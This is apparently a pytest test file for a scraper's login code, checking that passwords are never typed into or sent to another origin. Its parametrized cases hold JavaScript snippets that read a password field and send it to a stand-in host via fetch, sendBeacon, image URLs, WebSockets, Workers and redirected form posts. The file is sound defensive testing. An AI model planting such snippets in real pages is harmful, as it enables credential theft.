"""Nothing is typed or pressed at another origin, whatever a page does meanwhile."""

from __future__ import annotations

import asyncio
from contextlib import asynccontextmanager
from dataclasses import replace
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest

from jdp_spider.pages import grid
from jdp_spider.pages import page as page_module
from jdp_spider.pages.errors import (
    BrowserFailed,
    LoggedOut,
    LoginRefused,
    PageChanged,
    SiteMoved,
)
from jdp_spider.pages.login import log_in
from jdp_spider.pages.page import SitePage
from jdp_spider.pages.place import check_form
from jdp_spider.pages.rows import Row
from jdp_spider.pages.site import Site
from tests.support.lasting_browser import lasting_browser

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable

    from playwright.async_api import Browser, Page

browser = pytest.mark.browser

SECRET = "typed-Passw0rd"
LOGIN = """
    <form method=post {form}>
        <input id=usernameInput name=UserName>
        <input id=passwordInput name=Password type=password {field}>
        <button id=loginButton {button}>Log In</button>
    </form>"""


class Server:
    """Two names of one server with pages of our own; what was posted to it is kept."""

    def __init__(self, pages: dict[str, str]) -> None:
        self.pages = pages
        self.port = 0
        self.posted: list[tuple[str, str]] = []
        """Host and body."""
        self.asked: list[str] = []

    @property
    def own(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def other(self) -> str:
        return f"http://localhost:{self.port}"

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
        method, path, _ = head.split(" ", 2)
        fields = dict(line.split(": ", 1) for line in head.lower().splitlines() if ": " in line)
        body = await reader.readexactly(int(fields.get("content-length", 0)))
        host = fields["host"].partition(":")[0]
        self.asked.append(f"{host}{path}")
        if method == "POST":
            self.posted.append((host, body.decode()))
        text = self.pages.get(f"{host}{path}", "<p>Nothing</p>")
        text = text.replace("{other}", self.other).replace("{own}", self.own)
        status = "200 OK"
        if text.startswith("Location:"):
            status = "307 Moved"
            text = f"{text}\r\n\r\n"
        else:
            text = f"Content-Type: text/html\r\n\r\n{text}"
        writer.write(f"HTTP/1.0 {status}\r\nAccess-Control-Allow-Origin: *\r\n{text}".encode())
        writer.close()


@asynccontextmanager
async def opened(browser: Browser, pages: dict[str, str]) -> AsyncIterator[tuple[Page, Server]]:
    server = Server(pages)
    listening = await asyncio.start_server(server.answer, "127.0.0.1", 0)
    server.port = listening.sockets[0].getsockname()[1]
    async with listening:
        page = await browser.new_page()
        await page.goto(f"{server.own}/login")
        yield page, server
        await page.close()


def run(
    work: Callable[[Page, Site, Server], Awaitable[Any]], pages: dict[str, str], **given: Any
) -> Any:
    """What `work` comes to on the page "/login" of the own host."""

    async def visit(browser: Browser) -> Any:
        async with opened(browser, pages) as (page, server):
            site = Site(f"{server.own}/", page_timeout=4, **given)
            return await asyncio.wait_for(work(page, site, server), 30)

    return lasting_browser.run(visit)


def login(form: str = "", field: str = "", button: str = "") -> str:
    return LOGIN.format(form=form, field=field, button=button)


# Typing


@browser
@pytest.mark.parametrize(("holder", "step"), [(SitePage, "poll"), (page_module, "check_form")])
def test_page_opened_during_typing_gets_no_text(
    holder: Any, step: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Right behind a step the other page is there, with the focus in a field of its own."""
    original = getattr(holder, step)

    async def work(page: Page, site: Site, server: Server) -> Any:
        async def leave(*args: Any, **given: Any) -> Any:
            done = await original(*args, **given)
            await page.goto(f"{server.other}/login")
            return done

        monkeypatch.setattr(holder, step, leave)
        with pytest.raises(SiteMoved):
            await SitePage(page, site, "Login", at_login=True).fill("password", SECRET)
        return await page.input_value("#passwordInput")

    pages = {"127.0.0.1/login": login(), "localhost/login": login(field="autofocus")}
    assert run(work, pages) == ""


@browser
def test_typing_produces_the_events_of_a_user() -> None:
    """The site's scripts see the same events, and what stood there is replaced."""
    typed = "s3cret\u20ac'\"\\"
    script = """<script>
        window.seen = [];
        for (const name of ['focus', 'input', 'change', 'blur'])
            document.querySelector('#passwordInput').addEventListener(name, event =>
                seen.push([name, event.isTrusted, event.inputType ?? '', event.target.value]));
    </script>"""

    async def work(page: Page, site: Site, server: Server) -> Any:
        for name, text in (("password", typed), ("user_name", ""), ("user_name", "me")):
            await SitePage(page, site, "Login", at_login=True).fill(name, text)
        return await page.evaluate("[seen, document.querySelector('#usernameInput').value]")

    seen, user = run(work, {"127.0.0.1/login": login(field="value=old") + script})
    assert user == "me"
    assert seen == [
        ["focus", True, "", "old"],
        ["input", True, "insertText", typed],
        ["change", True, "", typed],
        ["blur", True, "", typed],
    ]


@browser
def test_no_error_contains_the_text_to_type() -> None:
    async def work(page: Page, site: Site, server: Server) -> Any:
        typing = asyncio.ensure_future(
            SitePage(page, site, "Login", at_login=True).fill("password", SECRET)
        )
        await asyncio.sleep(0.3)
        await page.close()
        with pytest.raises(Exception) as caught:  # noqa: PT011 - whichever it is
            await typing
        return repr(caught.value)

    slow = 'onfocus="const end = Date.now() + 1000; while (Date.now() < end);"'
    assert SECRET not in run(work, {"127.0.0.1/login": login(field=slow)})


# Where a form sends


@browser
@pytest.mark.parametrize(
    ("form", "button"),
    [
        ("action={other}/login", ""),
        ("", "formaction={other}/login"),
        ("action=/login", "formaction=//localhost/x"),
        ("action=mailto:me@x", ""),
        ("action=http:///", ""),
    ],
)
def test_form_with_a_foreign_target_is_not_filled_in(form: str, button: str) -> None:
    async def work(page: Page, site: Site, server: Server) -> Any:
        with pytest.raises(SiteMoved, match="Login: its form leads to"):
            await log_in(page, "me", SECRET, site, list)
        return server.posted, await page.input_value("#passwordInput")

    assert run(work, {"127.0.0.1/login": login(form, button=button)}) == ([], "")


@browser
@pytest.mark.parametrize(
    "form",
    [
        "action=''",
        "action=/login",
        "action={own}/login",
        "action='javascript:void 0' onsubmit='return true'",
    ],
)
def test_form_with_an_own_target_is_filled_in(form: str) -> None:
    async def work(page: Page, site: Site, server: Server) -> Any:
        await SitePage(page, site, "Login", at_login=True).fill("password", SECRET)
        return await page.input_value("#passwordInput")

    # A field that is called as the form's own properties are does not hide them.
    page = login(form).replace("<button", "<input name=action><input name=getAttribute><button")
    assert run(work, {"127.0.0.1/login": page}) == SECRET


def test_https_form_with_an_http_target_is_not_filled_in() -> None:
    async def answer(*_: Any) -> list[str]:
        return ["https://host/login", "http://host/login"]

    site, field = Site("https://host/"), SimpleNamespace(evaluate=answer)
    with pytest.raises(SiteMoved, match="Nothing in "):
        asyncio.run(check_form(site, field, "Login"))


@browser
@pytest.mark.parametrize("answer", ["Location: {other}/x", "Location: /y"])
def test_redirect_does_not_forward_the_login_form(answer: str) -> None:
    """By 307 the browser sends the form once more, to wherever it is told."""
    pages = {
        "127.0.0.1/login": login("action=/send"),
        "127.0.0.1/send": answer,
        "127.0.0.1/y": "Location: {other}/x",
    }

    async def work(page: Page, site: Site, server: Server) -> Any:
        with pytest.raises(SiteMoved, match="Login leads to http://localhost"):
            await log_in(page, "me", SECRET, site, list)
        await asyncio.sleep(0.2)
        return {host for host, _ in server.posted}, "localhost/x" in server.asked

    assert run(work, pages) == ({"127.0.0.1"}, False)


def sign_on(token: str = "let in", there: str = "") -> dict[str, str]:
    """A login whose answer posts itself to another host; `there` is that one's page."""
    posts = "<form method=post action='{%s}/%s'><input type=hidden name=Token value='%s'></form>"
    back = "<script>setTimeout(() => document.forms[0].submit(), 500)</script>"
    return {
        "127.0.0.1/login": login("action=/send"),
        "127.0.0.1/send": posts % ("other", "sso", token)
        + "<script>document.forms[0].submit()</script>",
        "localhost/sso": there or posts % ("own", "done", "back") + back,
        "127.0.0.1/done": "<a href=/vehicle/>Inventory</a>",
    }


@browser
def test_answer_that_leads_over_another_host_and_back_is_awaited() -> None:
    async def work(page: Page, site: Site, server: Server) -> Any:
        done = await log_in(page, "me", SECRET, site, list)
        return done.sent, [(host, SECRET in body) for host, body in server.posted]

    ways = [("127.0.0.1", True), ("localhost", False), ("127.0.0.1", False)]
    assert run(work, sign_on()) == (True, ways)


@browser
@pytest.mark.parametrize(
    ("token", "there", "posts"),
    [
        (SECRET, "", 1),
        ("let in", login(field="autofocus"), 2),
        ("let in", "<button onclick=\"document.title = 'pressed'\">Continue</button>", 2),
    ],
    ids=["with_the_password", "asks_for_a_login", "asks"],
)
def test_answer_that_leads_to_another_host_gets_nothing_there(
    token: str, there: str, posts: int
) -> None:
    kept: list[Any] = []

    async def work(page: Page, site: Site, server: Server) -> Any:
        with pytest.raises(SiteMoved, match="leads to http://localhost"):
            await log_in(page, "me", SECRET, site, kept.append)
        secret = [host for host, body in server.posted if SECRET in body]
        return secret, len(server.posted), await page.title()

    assert run(work, sign_on(token, there)) == (["127.0.0.1"], posts, "")
    # Whoever ends it later needs what there is of the session.
    assert len(kept) == 1


@browser
def test_redirect_does_not_forward_a_login_sent_by_script_and_analytics_pass() -> None:
    script = """<script>
        document.querySelector('form').addEventListener('submit', event => {
            event.preventDefault();
            fetch('{other}/figures', {method: 'POST', body: 'a click'});
            fetch('/send', {method: 'POST', body: document.querySelector('#passwordInput').value});
        });
    </script>"""
    pages = {"127.0.0.1/login": login() + script, "127.0.0.1/send": "Location: {other}/x"}

    async def work(page: Page, site: Site, server: Server) -> Any:
        with pytest.raises(SiteMoved, match="Login leads to http://localhost"):
            await log_in(page, "me", SECRET, site, list)
        await asyncio.sleep(0.2)
        return sorted(server.posted)

    assert run(work, pages) == [("127.0.0.1", SECRET), ("localhost", "a click")]


@browser
@pytest.mark.parametrize(
    "sending",
    [
        "fetch('{other}/x', {method: 'POST', mode: 'no-cors', body: text})",
        "fetch('{other}/x', {method: 'POST', body: JSON.stringify({a: [text]})})",
        "fetch('{other}/x', {method: 'POST', body: new URLSearchParams({a: text})})",
        "fetch('{other}/x?a=' + encodeURIComponent(text), {mode: 'no-cors'})",
        "navigator.sendBeacon('{other}/x', text)",
        pytest.param(
            "navigator.sendBeacon('{other}/x', new URLSearchParams({a: btoa('x' + text)}))",
            marks=pytest.mark.long,
        ),
        "new Image().src = '{other}/x?a=' + text",
        pytest.param("import('{other}/' + text)", marks=pytest.mark.long),
        "fetch('{other}/x', {method: 'POST', mode: 'no-cors', body: text + 'x'.repeat(200000)})",
        pytest.param("new EventSource('{other}/x?a=' + text)", marks=pytest.mark.long),
        "window.open('{other}/x?a=' + text)",
        pytest.param(
            "fetch('{other}/x', {method: 'POST', mode: 'no-cors', body: new Blob([text])})",
            marks=pytest.mark.long,
        ),
        "window.frames[0].postMessage(text, '*')",
    ],
)
def test_script_cannot_send_the_password_to_another_origin(sending: str) -> None:
    async def work(page: Page, site: Site, server: Server) -> Any:
        with pytest.raises(SiteMoved, match="Login leads to http://localhost"):
            await log_in(page, "me", SECRET, site, list)
        await asyncio.sleep(0.2)
        return server.posted, [path for path in server.asked if SECRET in path]

    assert run(work, sending_page(sending)) in (([], []), (set(), []))


def sending_page(sending: str) -> dict[str, str]:
    """A login whose script does this with the password; with a frame that sends what it gets."""
    script = f"""<script>
        document.querySelector('form').addEventListener('submit', event => {{
            event.preventDefault();
            const text = document.querySelector('#passwordInput').value;
            {sending};
        }});
    </script>"""
    frame = """<script>
        addEventListener('message', ({data}) => { new Image().src = '/x?a=' + data; });
    </script>"""
    return {
        "127.0.0.1/login": login() + script + "<iframe src='{other}/frame'></iframe>",
        "localhost/frame": frame,
    }


QUIET = {
    "socket": "new WebSocket('{other}/x?a='.replace('http', 'ws') + text)",
    "socket of a frame": "document.body.append(document.createElement('iframe')); "
    "new frames[1].WebSocket('{other}/x?a='.replace('http', 'ws') + text)",
    "worker": "new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('{other}/x?a=\" + text + \"', {mode: 'no-cors'})\"])))",
    "long": "fetch('{other}/x', {method: 'POST', mode: 'no-cors', body: text + 'x'.repeat(2e6)})",
}


@browser
@pytest.mark.parametrize("name", QUIET)
def test_channels_that_cannot_be_inspected_are_blocked(name: str) -> None:
    """The login goes on: such a thing may be part of any page."""
    ends = "setTimeout(() => fetch('/send', {method: 'POST', body: text}), 300)"
    sending = f"try {{ {QUIET[name]} }} catch {{}} {ends}"

    async def work(page: Page, site: Site, server: Server) -> Any:
        with pytest.raises(LoginRefused):
            await log_in(page, "me", SECRET, site, list)
        return {host for host, _ in server.posted}, [x for x in server.asked if "localhost/x" in x]

    assert run(work, sending_page(sending)) == ({"127.0.0.1"}, [])


# Pressing


PRESSED = """
    <a class=dxgvFilterBarLink onclick="ClearFilter; document.title = 'pressed'" href=#>Clear</a>
    <button class=reportButton onclick="document.title = 'pressed'">Print</button>
    <input id=StockNumberInput oninput="document.title = 'typed'">
    <script>
        function vehicleGridViewFilterChanged() { document.title = 'searched'; }
        // The browser itself tells of a mouse in the corner.
        addEventListener('mousemove', event => {
            if (event.clientX) document.title = 'moved over';
        });
    </script>
    <div class=dxpLite><a href=# onclick="document.title = 'turned'">2</a></div>
    <a id=x href=# onclick="document.title = 'opened'">Row</a>"""

ACTS: dict[str, Callable[[SitePage], Awaitable[Any]]] = {
    "press": lambda page: page.click("reports"),
    "press at a known spot": lambda page: page.click(
        "reports", target={"x": 60, "y": 20, "covered": False}
    ),
    "press what is covered": lambda page: page.click(
        "reports", target={"x": 60, "y": 20, "covered": True}
    ),
    "hover": lambda page: page.hover("reports"),
    "type": lambda page: page.fill("search", "165548"),
    "wait": lambda page: page.wait_for("reports"),
    "act": lambda page: page.act("() => { document.title = 'done' }"),
    "filter": grid.clear_filter,
    "search": lambda page: grid.search(page, "165548"),
    "next page": lambda page: grid.next_page(page, 1),
    "row": lambda page: grid.open_row(page, Row("x", None, ())),
}


@browser
@pytest.mark.parametrize("name", ACTS)
def test_no_action_on_a_page_of_another_origin(name: str) -> None:
    async def work(page: Page, site: Site, server: Server) -> Any:
        await page.goto(f"{server.other}/page")
        with pytest.raises(SiteMoved, match=f"leads to {server.other}, and JD_BASE_URL says"):
            await ACTS[name](SitePage(page, site, "Vehicle"))
        return await page.title()

    assert run(work, {"localhost/page": PRESSED}) == ""


@browser
@pytest.mark.parametrize("name", ACTS)
def test_page_of_an_allowed_login_host_means_logged_out(name: str) -> None:
    pages = {"localhost/page": PRESSED + login()}

    async def work(page: Page, site: Site, server: Server) -> Any:
        await page.goto(f"{server.other}/page")
        with pytest.raises(LoggedOut):
            await ACTS[name](SitePage(page, site, "Vehicle"))
        return await page.title()

    assert run(work, pages, login_hosts=("localhost",)) == ""


@browser
def test_internal_page_of_the_browser_is_not_another_origin() -> None:
    async def work(page: Page, site: Site, server: Server) -> Any:
        await page.goto("about:blank")
        blank = SitePage(page, replace(site, page_timeout=0.5), "Vehicle")
        with pytest.raises(BrowserFailed, match="a page of its own"):
            blank.check_may_act()
        with pytest.raises(PageChanged):
            await blank.click("reports")

    run(work, {})


@browser
def test_licence_is_accepted_only_at_the_own_origin() -> None:
    pages = {"localhost/page": "<input type=checkbox id=agreementCheckBox>"}

    async def work(page: Page, site: Site, server: Server) -> Any:
        await page.goto(f"{server.other}/page")
        with pytest.raises(SiteMoved):
            await log_in(page, "me", SECRET, site, list)
        return await page.is_checked("#agreementCheckBox")

    assert run(work, pages) is False
